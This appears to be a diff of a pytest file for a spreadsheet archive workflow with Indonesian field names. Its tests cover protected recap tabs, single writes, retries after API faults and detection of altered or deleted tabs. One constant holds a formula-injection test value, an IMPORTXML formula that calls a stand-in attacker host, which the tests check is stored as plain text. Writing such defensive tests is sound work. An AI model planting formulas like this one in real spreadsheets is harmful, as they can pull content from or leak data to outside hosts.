@@ -13,10 +13,9 @@ import pytest
 from flows.commands.archive import verify
 from flows.procedure.cases import Source
 from flows.workbook.flow_tabs import ARCHIVE, RECAP
-from flows.workbook.tabs import PERIODS, RECAP_RECIPIENTS
+from flows.workbook.tabs import PERIODS, RECAP_RECIPIENTS, VACANCIES
 from tests.google_emulator import Colleague, Spreadsheet
 from tests.steps.google_world import World, vacancy, world
-from tests.workbook.google_staff import no_sleep
 
 DAY = 86_400.0
 FEEDBACK = '=IMPORTXML("https://jahat.example","//a")'
@@ -40,23 +39,20 @@ class Archived:
 
 @pytest.fixture
 def archived(tmp_path: Path) -> Iterator[Archived]:
-    """A vacancy closed and was answered; the period was approved yesterday, after it was over."""
+    """A vacancy closed and was answered; the period is over, approved, and is archived by the next tick."""
     with world(tmp_path) as made:
         book = made.google.create_spreadsheet("Arsip Rekap")
         config = made.folder / "loker.toml"
         config.write_text(f'{config.read_text("utf-8")}[archive]\nspreadsheet_id = "{book.id}"\n', "utf-8")
         today = (made.now() + timedelta(hours=7)).date()
         closed, last = today + timedelta(days=1), today + timedelta(days=2)
-        from flows.workbook.tabs import VACANCIES
-
         made.type(VACANCIES, [vacancy(1, **{"Batas Lamaran": f"{closed:%d/%m/%Y}"})])
         made.tick()
-        made.google.clock.advance(3 * DAY)
         period = {
             "Judul": "Uji", "Dari": f"{today:%d/%m/%Y}", "Sampai": f"{last:%d/%m/%Y}", "Status": "Setuju",
             "Disetujui Oleh": "Rina",
         }  # fmt: skip
-        made.google.clock.advance(5 * DAY)
+        made.google.clock.advance(8 * DAY)
         made.tick()
         with made.office() as office:
             [case] = office.ledger.responses.cases()
@@ -68,14 +64,58 @@ def archived(tmp_path: Path) -> Iterator[Archived]:
         yield Archived(made, book, f"rekap-{today.isoformat()}_{last.isoformat()}-rev0")
 
 
-def test_the_recap_stands_there_in_a_protected_tab(archived: Archived) -> None:
-    archived.made.tick()  # a new row's ID is read back before it is acted upon
-    cells = [cell for row in archived.rows() for cell in row]
-    assert FEEDBACK in cells, "what a partner typed is text, never a formula"
+def found(archived: Archived, capsys: pytest.CaptureFixture[str]) -> str:
+    """What `loker archive verify` finds."""
+    capsys.readouterr()
+    verify(archived.made.folder / "loker.toml")
+    return "\n".join(line for line in capsys.readouterr().out.splitlines() if not line.endswith("findings"))
+
+
+def test_the_recap_stands_there_in_a_protected_tab(archived: Archived, capsys: pytest.CaptureFixture[str]) -> None:
+    archived.made.tick()
+    assert FEEDBACK in [cell for row in archived.rows() for cell in row], "what a partner typed is text, no formula"
     sheet = archived.book.sheet(archived.title)
     assert sheet is not None
     [protected] = sheet.protected
     assert protected["editors"]["users"] == [archived.made.google.credentials()["client_email"]]
     assert [row["Judul"] for row in archived.made.rows(ARCHIVE)] == ["Uji", "Uji"]
     assert archived.made.rows(RECAP) == []
-    assert verify(archived.made.folder / "loker.toml") == 0
+    assert found(archived, capsys) == ""
+
+
+def test_it_is_written_once(archived: Archived) -> None:
+    archived.made.tick()
+    archived.made.google.log.clear()
+    archived.made.tick()
+    assert [call for call in archived.made.google.log if archived.book.id in call.path] == []
+
+
+@pytest.mark.parametrize(
+    "fault",
+    [
+        {"action": 503, "on": "batchUpdate", "times": 1_000},
+        {"action": "lost", "on": "spreadsheets.batchUpdate"},
+        {"action": 503, "on": "values.batchUpdate", "times": 1_000},
+    ],
+    ids=["nothing is written", "the reply of its making is lost", "no cells are written"],
+)
+def test_what_is_out_of_reach_in_one_run_is_written_in_the_next(
+    archived: Archived, fault: dict[str, Any], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("flows.google.connection.ATTEMPTS", 1)
+    archived.made.google.fail(**fault)
+    archived.made.tick(patient=False)
+    assert len(archived.made.mail.messages) > 0, "it is archived and sent all the same"
+    archived.made.tick()
+    assert FEEDBACK in [cell for row in archived.rows() for cell in row]
+    assert found(archived, capsys) == ""
+
+
+def test_a_tab_that_somebody_altered_or_deleted_is_found(
+    archived: Archived, capsys: pytest.CaptureFixture[str]
+) -> None:
+    archived.made.tick()
+    archived.staff.type(archived.title, "B3", "999")
+    assert found(archived, capsys) == f"{archived.title}: its tab in the archive's spreadsheet differs from its file"
+    archived.staff.delete_tab(archived.title)
+    assert found(archived, capsys) == f"{archived.title}: has no tab in the archive's spreadsheet"
